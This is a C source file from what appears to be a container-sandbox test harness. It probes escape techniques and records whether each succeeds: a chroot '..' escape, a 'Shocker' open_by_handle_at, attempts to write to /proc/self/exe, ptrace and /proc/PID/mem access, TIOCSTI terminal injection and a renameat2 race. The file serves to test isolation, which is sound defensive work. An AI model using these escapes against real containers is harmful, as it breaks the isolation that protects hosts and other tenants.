/* Attempts at getting out. Each is one that has worked on some engine; rows are those of the security reference. */
#define _GNU_SOURCE
#include "observer.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

/* In a child, so that what follows "+" is not a tracer and keeps its user. */
static int apart(int (*run)(char **), char **argv) {
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        int status = run(argv);
        fflush(stdout);
        _exit(status);
    }
    if (pid < 0)
        die("fork");
    waitpid(pid, NULL, 0);
    return KEEP_GOING;
}

/* Row 51. Every way to mount, then to change what is mounted. The directory is given so that the test chooses a writable one. */
static int mount_attempts(int argc, char **argv) {
    const char *at = argc > 1 ? argv[1] : "/tmp";
    attempt("mount.tmpfs", mount("none", at, "tmpfs", 0, "size=4k"));
    attempt("mount.proc", mount("proc", at, "proc", 0, NULL));
    attempt("mount.bind", mount("/", at, NULL, MS_BIND, NULL));
    attempt("mount.private", mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
    attempt("mount.remount", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    attempt("umount2", umount2("/proc", MNT_DETACH));
    long fd = attempt("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    if (fd >= 0)
        close(fd);
    fd = attempt("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
    if (fd >= 0)
        close(fd);
    struct mount_attr attributes = {.attr_clr = MOUNT_ATTR_RDONLY};
    attempt("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &attributes, sizeof attributes));
    attempt("pivot_root", syscall(SYS_pivot_root, ".", "."));
    return KEEP_GOING;
}

/* Rows 2 and 12. */
static int trace_in_child(char **argv) {
    pid_t pid = number(argv[1]);
    char path[64], byte;
    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
    attempt("ptrace.seize", ptrace(PTRACE_SEIZE, pid, 0, 0));
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    attempt("ptrace.mem", fd);
    if (fd >= 0)
        close(fd);
    snprintf(path, sizeof path, "/proc/%d/root/", pid);
    attempt("ptrace.root", access(path, F_OK));
    attempt("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0));
    return 0;
}

static int trace(int argc, char **argv) {
    (void)argc;
    return apart(trace_in_child, argv);
}

/* Row 1: reach a program that is the engine's and write to it. */
static int executable(int argc, char **argv) {
    (void)argc, (void)argv;
    static const char *const paths[] = {"/proc/self/exe", "/proc/1/exe"};
    for (size_t i = 0; i < 2; i++) {
        char target[4096], reopened[64], key[64];
        ssize_t n = readlink(paths[i], target, sizeof target);
        snprintf(key, sizeof key, "target.%s", paths[i]);
        if (n >= 0)
            say(key, "%.*s", (int)n, target);
        int fd = open(paths[i], O_WRONLY | O_CLOEXEC);
        attempt_at("writable", paths[i], fd);
        if (fd >= 0)
            close(fd);
        int handle = open(paths[i], O_PATH | O_CLOEXEC);
        snprintf(reopened, sizeof reopened, "/proc/self/fd/%d", handle);
        fd = handle < 0 ? -1 : open(reopened, O_WRONLY | O_CLOEXEC);
        attempt_at("reopened", paths[i], fd);
        if (fd >= 0)
            close(fd);
        if (handle >= 0)
            close(handle);
    }
    return KEEP_GOING;
}

/* The classic: a root below, a cwd above it, and up. "escaped" compares the inode reached with that of /. */
static int chroot_escape(int argc, char **argv) {
    const char *below = argc > 1 ? argv[1] : "/tmp";
    char made[4096];
    struct stat before, after;
    snprintf(made, sizeof made, "%s/escape", below);
    stat("/", &before);
    int here = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    mkdir(made, 0700);
    pid_t pid = fork();
    if (pid == 0) {
        if (attempt("chroot", chroot(made)) == 0) {
            if (fchdir(here))
                die("fchdir");
            for (int i = 0; i < 1024 && chdir("..") == 0; i++)
                ;
            if (chroot("."))
                die("chroot");
            stat("/", &after);
            say("escaped", "%s", before.st_dev == after.st_dev && before.st_ino == after.st_ino ? "no" : "yes");
        } else {
            say("escaped", "no");
        }
        fflush(stdout);
        _exit(0);
    }
    waitpid(pid, NULL, 0);
    close(here);
    rmdir(made);
    return KEEP_GOING;
}

/* Row 55, "Shocker": inode 2 is the root directory of the ext4 or xfs that a path of ours lies on. */
static int by_handle(int argc, char **argv) {
    union {
        struct file_handle handle;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } own = {.handle = {.handle_bytes = MAX_HANDLE_SZ}}, root;
    int mount_id, at = open(argc > 1 ? argv[1] : "/", O_RDONLY | O_CLOEXEC);
    attempt("name_to_handle_at", name_to_handle_at(at, "", &own.handle, &mount_id, AT_EMPTY_PATH));
    root = own;
    root.handle.handle_type = 1; /* FILEID_INO32_GEN */
    root.handle.handle_bytes = 8;
    memcpy(root.handle.f_handle, (unsigned[]){2, 0}, 8);
    long fd = attempt("open_by_handle_at", open_by_handle_at(at, &root.handle, O_RDONLY | O_CLOEXEC));
    if (fd >= 0)
        close(fd);
    fd = attempt("open_by_handle_at.own", open_by_handle_at(at, &own.handle, O_RDONLY | O_CLOEXEC));
    if (fd >= 0)
        close(fd);
    close(at);
    return KEEP_GOING;
}

/* Row 11: type into the terminal of whoever started us. */
static int push_input(int argc, char **argv) {
    (void)argc, (void)argv;
    char newline = '\n';
    attempt("tiocsti", ioctl(0, TIOCSTI, &newline));
    return KEEP_GOING;
}

/* A program that logs to /dev/stdout opens it anew, as whatever user it has become: the pipe must belong to that user. */
static int reopen_in_child(char **argv) {
    static const char *const paths[] = {"/dev/stdout", "/dev/stderr", "/proc/self/fd/1"};
    if (argv[1] && setresuid(number(argv[1]), number(argv[1]), number(argv[1])))
        die("setresuid");
    for (size_t i = 0; i < 3; i++) {
        int fd = open(paths[i], O_WRONLY | O_APPEND | O_CLOEXEC);
        attempt_at("reopen", paths[i], fd);
        if (fd >= 0)
            close(fd);
    }
    return 0;
}

static int reopen(int argc, char **argv) {
    (void)argc;
    return apart(reopen_in_child, argv);
}

/* Rows 59 and 66: executes a copy of this program that has the set-user-id bit; it says whose rights it got. */
static int set_user_id_in_child(char **argv) {
    execl(argv[1], "observer", "ids", "+", "caps", NULL);
    attempt("execve", -1);
    return 126;
}

static int set_user_id(int argc, char **argv) {
    (void)argc;
    return apart(set_user_id_in_child, argv);
}

/* Row 26: whoever looks twice sees two different things. Ends with the container. */
static int exchange(int argc, char **argv) {
    (void)argc;
    puts("ready"), fflush(stdout);
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */))
            die("renameat2");
}

const struct command attack_commands[] = {
    {"mount-attempts", "[DIR]: mount, remount, umount, fsopen, open_tree, mount_setattr, pivot_root", 0, mount_attempts},
    {"ptrace", "PID: seize, /proc/PID/mem, /proc/PID/root, process_vm_readv", 1, trace},
    {"exe", "open /proc/self/exe and /proc/1/exe for writing, directly and through O_PATH", 0, executable},
    {"chroot-escape", "[DIR]: chroot below, then .. until the top", 0, chroot_escape},
    {"by-handle", "[PATH]: open_by_handle_at of inode 2 of its file system, and of PATH itself", 0, by_handle},
    {"tiocsti", "push a byte into the terminal's input", 0, push_input},
    {"reopen", "[UID]: become UID, then open /dev/stdout and /dev/stderr", 0, reopen},
    {"exchange", "PATH PATH: exchange the two for ever", 2, exchange},
    {"setuid-exec", "PROGRAM: execute a set-user-id copy of this program", 1, set_user_id},
    {0},
};
